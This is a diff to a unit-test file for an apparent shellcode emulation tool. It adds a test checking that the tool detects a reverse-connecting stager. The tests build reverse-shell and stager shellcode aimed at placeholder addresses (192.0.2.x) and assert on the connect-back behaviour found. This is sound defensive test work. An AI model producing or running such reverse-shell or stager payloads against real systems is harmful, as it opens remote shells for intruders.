@@ -25,6 +25,7 @@ from tests.unit.shellcode_samples import (
     download_exec,
     infinite_loop,
     reverse_shell,
+    reverse_stager,
     xor_fnstenv,
     xor_jmp_call_pop,
 )
@@ -214,6 +215,15 @@ def test_worker_reverse_shell() -> None:
     r = job(assemble(reverse_shell("192.0.2.77", 8443)))
     assert "connect" in [p["call"] for p in r["profile"]]
     assert r["services"] == ["connectbackshell://192.0.2.77:8443"]
+    assert r["offers"] == []  # a shell, not a stager: nothing to fetch
+
+
+def test_worker_stager_offers_its_handler_for_the_stage() -> None:
+    r = job(assemble(reverse_stager("192.0.2.50", 4444)))
+    calls = [p["call"] for p in r["profile"]]
+    assert calls[-4:] == ["connect", "recv", "VirtualAlloc", "recv"]
+    assert r["services"] == ["connectbackshell://192.0.2.50:4444"]
+    assert r["offers"] == ["tcp://192.0.2.50:4444/"]
 
 
 @pytest.mark.parametrize("encode", [xor_fnstenv, xor_jmp_call_pop])
